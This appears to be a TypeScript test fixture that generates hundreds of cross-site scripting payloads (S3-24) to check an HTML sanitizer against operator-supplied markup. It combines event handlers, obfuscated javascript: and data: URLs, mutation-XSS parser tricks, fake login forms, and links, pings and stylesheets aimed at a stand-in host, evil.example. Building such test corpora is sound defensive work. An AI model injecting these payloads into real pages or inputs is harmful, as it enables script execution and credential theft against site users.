/**
 * What an operator, or whoever writes in an operator's name, may try with HTML (S3-24). Each that runs says its number to
 * `alert`. Made of parts, so that a way in is tried at every place where it may lead somewhere.
 */

/** What begins by itself, or by a touch, at elements that have it and at those that do not. */
const events =
  'load error click mouseover pointerenter focus toggle beforetoggle begin animationstart transitionend input paste scroll wheel touchstart canplay auxclick'.split(
    ' ',
  );
const elements = [
  'img src=/attack.png',
  'svg',
  'body',
  'p',
  'a href=/m/home',
  'details open',
  'video src=/attack.mp4 autoplay',
  'table background=/attack.png',
  'input autofocus',
  'x-own tabindex=1 autofocus',
  'marquee',
  'svg><animate attributeName=x dur=1s',
];

/** Ways to write an address that runs. */
const runningAddresses = [
  'javascript:alert(N)',
  'JaVaScRiPt:alert(N)',
  ' javascript:alert(N)',
  'java&#x09;script:alert(N)',
  'java&#10;script:alert(N)',
  'java&NewLine;script:alert(N)',
  'javascript&colon;alert(N)',
  '&#106;&#97;vascript:alert(N)',
  '&#x6A&#x61vascript:alert(N)',
  '&#0000106avascript:alert(N)',
  '&#1;javascript:alert(N)',
  '\u0001javascript:alert(N)',
  'javascript://https://example.com/%0Aalert(N)',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(N)>*/alert(N)',
  'data:text/html,<script>parent.alert(N)</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoTik8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=parent.alert(N)>',
  'vbscript:alert(N)',
  'blob:null/alert(N)',
  'filesystem:https://example.com/alert(N)',
  'view-source:javascript:alert(N)',
  'feed:javascript:alert(N)',
  'jar:javascript:alert(N)',
];
/** Where an address may stand. */
const places = [
  '<a href="A">press</a>',
  "<a href='A' href=/m/home>press</a>",
  '<img src="A" alt="">',
  '<iframe src="A"></iframe>',
  '<form action="A"><button>Log in</button></form>',
  '<button form=x formaction="A">Log in</button>',
  '<object data="A"></object>',
  '<embed src="A">',
  '<svg><a xlink:href="A"><text y=20>press</text></a></svg>',
  '<math href="A">press</math>',
  '<svg><use href="A"></use></svg>',
  '<base href="A"><a href="x">press</a>',
  '<meta http-equiv=refresh content="0;url=A">',
  '<video poster="A"></video>',
  '<svg><animate attributeName=href values="A"></animate><a id=x><text>press</text></a></svg>',
];

/** What runs wherever it is left standing; `F` is a fence that a parser may take for text and the next one for HTML. */
const payloads = [
  '<img src=/attack.png onerror=alert(N)>',
  '<svg onload=alert(N)>',
  '<script>alert(N)</script>',
];
const fences = [
  'F',
  '</p></div></main></body>F',
  '"><!-- -->F',
  '\'">F',
  '<noscript><p title="</noscript>F">',
  '<xmp><p title="</xmp>F">',
  '<textarea><p title="</textarea>F">',
  '<title><p title="</title>F">',
  '<style><p title="</style>F">',
  '<iframe><p title="</iframe>F">',
  '<noembed><p title="</noembed>F">',
  '<noframes><p title="</noframes>F">',
  '<script><p title="</script>F">',
  '<plaintext>F',
  '<template>F</template>',
  '<select><option>F</select>',
  '<!--><p title="-->F">',
  '<!--!><p title="--!>F">',
  '<![CDATA[>F]]>',
  '<?xml >F?>',
  '<!ENTITY x ">F">',
  '<svg></p><style><p title="</style>F">',
  '<svg><style><p title="</style>F"></svg>',
  '<svg><foreignObject><p>F</foreignObject></svg>',
  '<svg><title><p title="</title>F">',
  '<svg><desc><table><a><style><a title="</style>F">',
  '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;F">',
  '<form><math><mtext></form><form><mglyph><style></math>F',
  '<math><annotation-xml encoding="text/html"><style></annotation-xml><p title="</style>F">',
  '<math><mi><style><p title="</style>F"></mi></math>',
  '<table><caption><svg><style><p title="</caption></style>F">',
  '<a><a><table><td><a>F</table>',
  `${'<div>'.repeat(600)}<svg><style><p title="</style>F">`,
  '<p title="`F`">',
  '<p title="&quot;>F">',
  '&lt;/p&gt;<p>&#60;F',
  '<<<F',
  '<\u0000F',
  '<a href="/m/home" title="\u2028>F">',
  '<p/title=">/F/">',
];

/** Ways to part the name of an element from what runs there. */
const partings = ['/', '\n', '\t', '\f', '\r', ' / ', '/x="y"/', '"x"', " x='", '\u00A0', '\u000B', '//'];

/** What runs nothing and dresses as the site, lies over it, or leads away. */
const dressed = [
  '<p style="position:fixed;inset:0;background:url(javascript:alert(N))">over</p>',
  '<style>@import "javascript:alert(N)"; * { display: none }</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href="data:text/html,x">',
  '<form action="/m/login"><input name="password"><button>Log in</button></form>',
  '<p id="constructor" name="body" class="toast" data-page="" aria-hidden="true" slot="x" is="x-own">dressed</p>',
  '<a href="//evil.example" data-page="">press</a><a href="/\\evil.example">press</a><a href="\\\\evil.example">press</a>',
  '<img src="//evil.example/x.png"><img srcset="javascript:alert(N) 1x" src=/attack.png>',
  '<a href="/m/home" target="_top" ping="https://evil.example" download>press</a>',
  '<dialog open popover=auto autofocus>over</dialog><button popovertarget=x commandfor=x command=show-modal>x</button>',
  '<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=/attack.png onerror=parent.alert(N)&gt;"></iframe>',
  '<applet code=x></applet><frameset><frame src="javascript:alert(N)"></frameset><portal src="javascript:alert(N)">',
  '<div><template shadowrootmode=open><img src=/attack.png onerror=alert(N)></template></div>',
];

export const operatorAttacks: readonly string[] = [
  ...elements.flatMap((element) => events.map((event) => `<${element} on${event}="alert(N)">x`)),
  ...places.flatMap((place) => runningAddresses.map((address) => place.replace('A', () => address))),
  ...fences.flatMap((fence) => payloads.map((payload) => fence.replace('F', () => payload))),
  ...partings.map((parting) => `<img${parting}src=/attack.png${parting}onerror=alert(N)>`),
  ...dressed,
].map((attack, index) => attack.replaceAll('(N)', `(${index})`));
